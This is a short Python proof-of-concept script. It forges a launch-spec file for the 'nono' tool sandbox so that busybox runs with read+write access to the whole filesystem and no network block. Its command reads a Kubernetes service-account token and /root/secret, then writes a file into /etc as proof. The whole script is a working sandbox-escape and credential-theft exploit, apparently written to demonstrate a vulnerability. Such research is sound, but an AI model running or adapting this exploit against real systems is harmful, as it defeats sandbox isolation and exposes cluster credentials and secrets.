#!/usr/bin/env python3
"""Writes app/spec.json: a NONO_TOOL_SANDBOX_LAUNCH_SPEC file that makes nono
exec busybox with read+write on / (the attack in docs/nono-inputs.md)."""
import os, json, hashlib, sys
b = "/usr/bin/busybox"; st = os.stat(b)
B = lambda s: list(s.encode())
cmd = "echo pid=$$; cat /var/run/secrets/kubernetes.io/serviceaccount/token; echo; cat /root/secret; echo w > /etc/spec-proof && echo etc-writable"
spec = {"real_binary": B(b), "executable_kind": "Elf", "interpreter": None, "interpreter_args": [],
        "argv": [B("sh"), B("-c"), B(cmd)], "env": [B("PATH=/usr/bin:/bin")], "cwd": B("/"),
        "stdio_mode": "direct_fds", "stdio_limits": None,
        "caps": {"fs": [{"path": B("/"), "access": "read+write", "is_file": False}], "unix_sockets": [],
                 "network_blocked": False, "proxy_port": None, "proxy_bind_ports": [],
                 "tcp_connect_ports": [], "tcp_bind_ports": []},
        "allowed_exec_paths": [B("/")],
        "expected_dev": st.st_dev, "expected_ino": st.st_ino, "expected_size": st.st_size,
        "expected_mtime_nanos": st.st_mtime_ns,
        "expected_sha256": hashlib.sha256(open(b, "rb").read()).hexdigest()}
json.dump(spec, open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "app", "spec.json"), "w"))
